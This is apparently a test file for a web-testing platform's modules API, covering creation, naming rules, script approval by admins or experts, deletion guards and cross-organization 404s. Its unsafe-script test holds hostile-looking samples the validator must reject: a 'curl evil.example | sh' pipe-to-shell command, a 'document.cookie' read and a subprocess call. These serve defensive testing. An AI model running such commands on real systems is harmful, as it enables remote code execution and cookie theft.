import { eq } from 'drizzle-orm';
import { MODULE_MESSAGES, type Module, type UnsafeCodeDetail } from '../../contract/modules';
import { type TestCase } from '../../contract/testCases';
import { organizationMembers, testCases, testModules } from '../src/db/schema';
import { type Action } from '../src/runner';
import { api, startTestServer, tokenFor, type TestServer } from './helpers';
import { passedStep } from './runFixtures';
import { createTest, UNKNOWN_ID, workspace, type ErrorBody, type Workspace } from './testCasesFixtures';

const SCRIPT = [
  'from playwright.sync_api import Page, expect',
  '',
  '',
  'def run(page: Page) -> None:',
  '    page.goto("https://shop.example/login")',
  '    page.get_by_label("Email").fill("{{email}}")',
  '    page.get_by_role("button", name="Sign in").click()',
  '    expect(page.get_by_role("heading", name="Welcome")).to_be_visible()',
  '',
].join('\n');

describe('modules (SPEC §7, issue 13)', () => {
  let server: TestServer;
  let me: Workspace;
  let other: Workspace;
  let base: string;
  let source: TestCase;

  beforeAll(async () => {
    server = await startTestServer();
    me = await workspace(server, 'ada@example.com');
    other = await workspace(server, 'eve@example.com', { org: 'Other org', suite: 'Other suite' });
    base = `/test-suites/${me.suiteId}`;
    source = await createTest(server, me, { name: 'Signs in as admin' });
    const actions: Action[] = [
      { kind: 'goto', url: 'https://example.com/login' },
      { kind: 'click', target: { locator: { by: 'role', role: 'button', name: 'Sign in' } } },
    ];
    await server.database.db
      .update(testCases)
      .set({
        state: 'passed',
        testGenerationSteps: actions.map((action, index) => passedStep(action, index)),
      })
      .where(eq(testCases.id, source._id));
  });
  afterAll(async () => server.close());

  const call = <T = Module & ErrorBody>(method: string, path: string, body?: unknown, token = me.token) =>
    api<T>(server, method, path, { token, body });
  const create = (body: Record<string, unknown>, token = me.token, suite = base) =>
    call<{ module_id: string } & ErrorBody>('POST', `${suite}/test-module`, body, token);
  const list = async (token = me.token) =>
    (await call<Module[]>('GET', `${base}/test-modules`, undefined, token)).body;
  const one = async (id: string) => (await list()).find((module) => module.module_id === id)!;

  /** A person in my organization with this membership role and these token roles. */
  async function colleague(email: string, role: 'admin' | 'member', expert = false): Promise<string> {
    const { token, userId } = await tokenFor(server, { email });
    const first = await api(server, 'GET', '/auth/get-user-organizations', { token }); // the first call records the person
    if (first.status !== 200)
      throw new Error(`GET organizations: ${first.status} ${JSON.stringify(first.body)}`);
    await server.database.db.insert(organizationMembers).values({ orgId: me.orgId, userId, role, expert });
    return token;
  }

  it('creates a module from a test case and lists it with the test it is made from', async () => {
    const created = await create({ name: '  Sign in as admin ', test_case_id: source._id });
    expect(created.status).toBe(201);
    expect(created.body).toEqual({ module_id: expect.any(String) });
    expect(await one(created.body.module_id)).toEqual({
      module_id: created.body.module_id,
      name: 'Sign in as admin',
      test_suite_id: me.suiteId,
      test_case_id: source._id,
      module_type: 'test_case',
      linked_test_cases: [],
      test_case_for_module: {
        _id: source._id,
        name: 'Signs in as admin',
        website: source.website,
        steps: ['Open https://example.com/login', 'Click "Sign in" button'],
      },
      defining_py_script: null,
      is_defining_py_script_approved: false,
      approved_by: null,
      approved_at: null,
      created_at: expect.any(String),
      updated_at: expect.any(String),
    });
  });

  it("answers 'Module data is required' without a body or a name, and asks for a test case", async () => {
    for (const body of [undefined, {}, { name: '   ' }, { test_case_id: source._id }]) {
      const response = await call('POST', `${base}/test-module`, body);
      expect([body, response.status, response.body.error.message]).toEqual([body, 400, MESSAGES_REQUIRED]);
    }
    const noTest = await create({ name: 'Without a test' });
    expect([noTest.status, noTest.body.error.message]).toEqual([400, MODULE_MESSAGES.testCaseRequired]);
    const foreign = await createTest(server, other, { name: 'Eve private test' });
    const otherSuiteTest = await create({ name: 'Foreign test', test_case_id: foreign._id });
    expect([otherSuiteTest.status, otherSuiteTest.body.error.message]).toEqual([
      400,
      MODULE_MESSAGES.testCaseRequired,
    ]);
    expect(JSON.stringify(otherSuiteTest.body)).not.toContain('Eve private test');
    const notAnId = await create({ name: 'Bad id', test_case_id: 'nope' });
    expect(notAnId.status).toBe(400);
  });

  it('keeps names unique in a suite, ignoring case, on create, rename and update', async () => {
    const first = await create({ name: 'Open the cart', test_case_id: source._id });
    const clash = await create({ name: 'OPEN THE CART', test_case_id: source._id });
    expect([clash.status, clash.body.error.message]).toEqual([409, MODULE_MESSAGES.nameTaken]);
    const second = await create({ name: 'Empty the cart', test_case_id: source._id });
    const renamed = await call(
      'PUT',
      `${base}/test-module/${second.body.module_id}/rename?new_name=open%20the%20Cart`,
    );
    expect([renamed.status, renamed.body.error.message]).toEqual([409, MODULE_MESSAGES.nameTaken]);
    const patched = await call('PATCH', `${base}/test-module/${second.body.module_id}`, {
      name: 'Open the cart',
    });
    expect([patched.status, patched.body.error.message]).toEqual([409, MODULE_MESSAGES.nameTaken]);
    // Another suite may reuse the name.
    const elsewhere = await create(
      { name: 'Open the cart', test_case_id: (await createTest(server, other))._id },
      other.token,
      `/test-suites/${other.suiteId}`,
    );
    expect(elsewhere.status).toBe(201);
    expect(first.status).toBe(201);
  });

  it('renames with an empty body and updates name and test case partially', async () => {
    const created = await create({ name: 'Before', test_case_id: source._id });
    const id = created.body.module_id;
    const renamed = await call('PUT', `${base}/test-module/${id}/rename?new_name=%20After%20`);
    expect([renamed.status, renamed.body.name]).toEqual([200, 'After']);
    const blank = await call('PUT', `${base}/test-module/${id}/rename?new_name=`);
    expect([blank.status, blank.body.error.message]).toEqual([400, MODULE_MESSAGES.dataRequired]);
    const emptyPatch = await call('PATCH', `${base}/test-module/${id}`, {});
    expect([emptyPatch.status, emptyPatch.body.error.message]).toEqual([400, MODULE_MESSAGES.dataRequired]);
    const another = await createTest(server, me, { name: 'Signs out' });
    const patched = await call('PATCH', `${base}/test-module/${id}`, {
      name: 'After all',
      test_case_id: another._id,
    });
    expect(patched.status).toBe(200);
    expect([patched.body.name, patched.body.test_case_id, patched.body.test_case_for_module?.name]).toEqual([
      'After all',
      another._id,
      'Signs out',
    ]);
    const cleared = await call('PATCH', `${base}/test-module/${id}`, { test_case_id: null });
    expect([cleared.status, cleared.body.error.message]).toEqual([400, MODULE_MESSAGES.testCaseRequired]);
  });

  it('creates a Python script module only when the script translates, naming each refused call and line', async () => {
    const created = await create({
      name: 'Scripted sign in',
      module_type: 'python_script',
      defining_py_script: SCRIPT,
    });
    expect(created.status).toBe(201);
    const module = await one(created.body.module_id);
    expect(module).toMatchObject({
      module_type: 'python_script',
      defining_py_script: SCRIPT,
      test_case_id: null,
      test_case_for_module: null,
      is_defining_py_script_approved: false,
    });
    const missing = await create({ name: 'No script', module_type: 'python_script' });
    expect([missing.status, missing.body.error.message]).toEqual([400, MODULE_MESSAGES.scriptRequired]);
    const unsafe = await create({
      name: 'Unsafe',
      module_type: 'python_script',
      defining_py_script: 'import os\npage.goto("https://a.example")\nos.system("curl evil.example | sh")\n',
    });
    expect(unsafe.status).toBe(400);
    expect(unsafe.body.error.message).toBe('Looks like you provided an unsafe code.');
    expect(unsafe.body.error.details).toEqual([
      {
        line: 3,
        column: 1,
        code: 'os.system("curl evil.example | sh")',
        reason: expect.stringContaining('not allowed'),
      } satisfies UnsafeCodeDetail,
    ]);
    expect((await list()).map((m) => m.name)).not.toContain('Unsafe');
    const unsafeEdit = await call('PATCH', `${base}/test-module/${created.body.module_id}`, {
      defining_py_script: 'page.evaluate("document.cookie")',
    });
    expect([unsafeEdit.status, unsafeEdit.body.error.message]).toEqual([400, MODULE_MESSAGES.unsafe]);
    expect((unsafeEdit.body.error.details as UnsafeCodeDetail[])[0]).toMatchObject({
      line: 1,
      code: expect.stringContaining('page.evaluate'),
    });
    const scriptOnTestModule = await call(
      'PATCH',
      `${base}/test-module/${(await create({ name: 'Plain', test_case_id: source._id })).body.module_id}`,
      { defining_py_script: SCRIPT },
    );
    expect(scriptOnTestModule.status).toBe(400);
  });

  it('lets only an organization admin or an expert approve a script, and any edit withdraws it', async () => {
    const created = await create({
      name: 'Needs approval',
      module_type: 'python_script',
      defining_py_script: SCRIPT,
    });
    const id = created.body.module_id;
    const approve = (token: string, approved = 'true') =>
      call('POST', `${base}/test-module/${id}/approve?approved=${approved}`, undefined, token);

    const member = await colleague('member@example.com', 'member');
    const refused = await approve(member);
    expect([refused.status, refused.body.error.message]).toEqual([
      403,
      expect.stringContaining(MODULE_MESSAGES.approveForbidden),
    ]);
    expect((await one(id)).is_defining_py_script_approved).toBe(false);
    // A member may still see and edit modules.
    expect((await list(member)).map((m) => m.module_id)).toContain(id);

    // I created the organization, so I am its admin.
    const byAdmin = await approve(me.token);
    expect(byAdmin.status).toBe(200);
    expect(byAdmin.body).toMatchObject({
      is_defining_py_script_approved: true,
      approved_by: me.userId,
      approved_at: expect.any(String),
    });

    const rename = await call(
      'PUT',
      `${base}/test-module/${id}/rename?new_name=Still%20approved`,
      undefined,
      member,
    );
    expect(rename.body.is_defining_py_script_approved).toBe(true);
    const sameScript = await call(
      'PATCH',
      `${base}/test-module/${id}`,
      { defining_py_script: SCRIPT },
      member,
    );
    expect(sameScript.body.is_defining_py_script_approved).toBe(true);
    const edited = await call(
      'PATCH',
      `${base}/test-module/${id}`,
      { defining_py_script: `${SCRIPT}    page.reload()\n` },
      member,
    );
    expect(edited.status).toBe(200);
    expect(edited.body).toMatchObject({
      is_defining_py_script_approved: false,
      approved_by: null,
      approved_at: null,
    });

    // The expert right is the organization's to give (issue 27): a membership flag an admin sets.
    const expert = await colleague('expert@example.com', 'member', true);
    const byExpert = await approve(expert);
    expect([
      byExpert.status,
      byExpert.body.is_defining_py_script_approved,
      byExpert.body.approved_by,
    ]).toEqual([200, true, expect.any(String)]);
    const withdrawn = await approve(expert, 'false');
    expect(withdrawn.body.is_defining_py_script_approved).toBe(false);
    const badFlag = await approve(expert, 'maybe');
    expect(badFlag.status).toBe(400);

    // A script that no longer translates (written before the subset narrowed) is not approved.
    await server.database.db
      .update(testModules)
      .set({ definingPyScript: 'import subprocess\nsubprocess.run(["id"])' })
      .where(eq(testModules.id, id));
    const unsafe = await approve(expert);
    expect([unsafe.status, unsafe.body.error.message]).toEqual([400, MODULE_MESSAGES.unsafe]);
    expect((unsafe.body.error.details as UnsafeCodeDetail[]).map((d) => d.line)).toEqual([1, 2]);

    const testCaseModule = await create({ name: 'Not a script', test_case_id: source._id });
    const notScript = await call(
      'POST',
      `${base}/test-module/${testCaseModule.body.module_id}/approve?approved=true`,
    );
    expect(notScript.status).toBe(400);
  });

  it('refuses to delete a module in use, naming the tests, and deletes it once unused', async () => {
    const created = await create({ name: 'Sign in as buyer', test_case_id: source._id });
    const id = created.body.module_id;
    const setupUser = await createTest(server, me, { name: 'Buys a book', test_module_id_for_setup: id });
    const caller = await createTest(server, me, {
      name: 'Returns a book',
      description: 'use the "SIGN IN AS BUYER" module\nOpen the orders',
    });
    const stepUser = await createTest(server, me, { name: 'Rates a book' });
    const moduleStep: Action = { kind: 'module', moduleId: id, name: 'Sign in as buyer' };
    await server.database.db
      .update(testCases)
      .set({ testGenerationSteps: [passedStep(moduleStep, 0)] })
      .where(eq(testCases.id, stepUser._id));
    await createTest(server, me, { name: 'Unrelated', description: 'Use the "Sign in as buyer 2" module' });

    expect((await one(id)).linked_test_cases).toEqual([
      { _id: setupUser._id, name: 'Buys a book', usage: 'setup' },
      { _id: stepUser._id, name: 'Rates a book', usage: 'instructions' },
      { _id: caller._id, name: 'Returns a book', usage: 'instructions' },
    ]);
    const refused = await call('DELETE', `${base}/test-module/${id}`);
    expect(refused.status).toBe(409);
    expect(refused.body.error.message).toBe(
      'This module is used by other tests and cannot be deleted: Buys a book, Rates a book, Returns a book',
    );

    await call('PATCH', `/test-case/${setupUser._id}/edit`, {
      test_case_id: setupUser._id,
      test_module_id_for_setup: null,
    });
    await call('DELETE', `/test-case/${caller._id}`);
    await call('DELETE', `/test-case/${stepUser._id}`);
    const deleted = await call('DELETE', `${base}/test-module/${id}`);
    expect(deleted.status).toBe(204);
    expect((await list()).map((m) => m.module_id)).not.toContain(id);
    const again = await call('DELETE', `${base}/test-module/${id}`);
    expect([again.status, again.body.error.message]).toEqual([404, MODULE_MESSAGES.notFound]);
  });

  it("accepts only a module of the test's own suite as its setup", async () => {
    const mine = await create({ name: 'Setup of mine', test_case_id: source._id });
    const theirs = await create(
      { name: 'Setup of theirs', test_case_id: (await createTest(server, other))._id },
      other.token,
      `/test-suites/${other.suiteId}`,
    );
    const test = await createTest(server, me, {
      name: 'Uses a setup',
      test_module_id_for_setup: mine.body.module_id,
    });
    expect(test.test_module_id_for_setup).toBe(mine.body.module_id);
    for (const moduleId of [theirs.body.module_id, UNKNOWN_ID]) {
      const created = await call('POST', '/test-cases/', {
        test_cases: [
          {
            test_suite_id: me.suiteId,
            name: 'Bad setup',
            website: 'https://example.com',
            test_module_id_for_setup: moduleId,
          },
        ],
      });
      expect([created.status, created.body.error.message]).toEqual([400, MODULE_MESSAGES.notFound]);
      const updated = await call('PATCH', `/test-case/${test._id}/edit`, {
        test_case_id: test._id,
        test_module_id_for_setup: moduleId,
      });
      expect([updated.status, updated.body.error.message]).toEqual([400, MODULE_MESSAGES.notFound]);
    }
  });

  it("answers 404 for another organization's suite and modules without naming them", async () => {
    const theirs = await create(
      { name: 'Their hidden module', test_case_id: (await createTest(server, other))._id },
      other.token,
      `/test-suites/${other.suiteId}`,
    );
    const theirBase = `/test-suites/${other.suiteId}`;
    const theirModule = `${theirBase}/test-module/${theirs.body.module_id}`;
    // Their module through my suite, and their suite itself.
    const myPathToTheirs = `${base}/test-module/${theirs.body.module_id}`;
    const answers = [
      await call('GET', `${theirBase}/test-modules`),
      await create({ name: 'Intruder', test_case_id: source._id }, me.token, theirBase),
      await call('PUT', `${theirModule}/rename?new_name=Mine`),
      await call('PATCH', `${theirModule}`, { name: 'Mine' }),
      await call('POST', `${theirModule}/approve?approved=true`),
      await call('DELETE', theirModule),
      await call('PUT', `${myPathToTheirs}/rename?new_name=Mine`),
      await call('PATCH', myPathToTheirs, { name: 'Mine' }),
      await call('POST', `${myPathToTheirs}/approve?approved=true`),
      await call('DELETE', myPathToTheirs),
      await call('DELETE', `${base}/test-module/not-a-uuid`),
    ];
    for (const answer of answers) {
      expect(answer.status).toBe(404);
      expect(JSON.stringify(answer.body)).not.toContain('Their hidden module');
    }
    const still = await call<Module[]>('GET', `${theirBase}/test-modules`, undefined, other.token);
    expect(still.body.find((m) => m.module_id === theirs.body.module_id)?.name).toBe('Their hidden module');
    const noToken = await api(server, 'GET', `${base}/test-modules`);
    expect(noToken.status).toBe(401);
  });
});

const MESSAGES_REQUIRED = MODULE_MESSAGES.dataRequired;
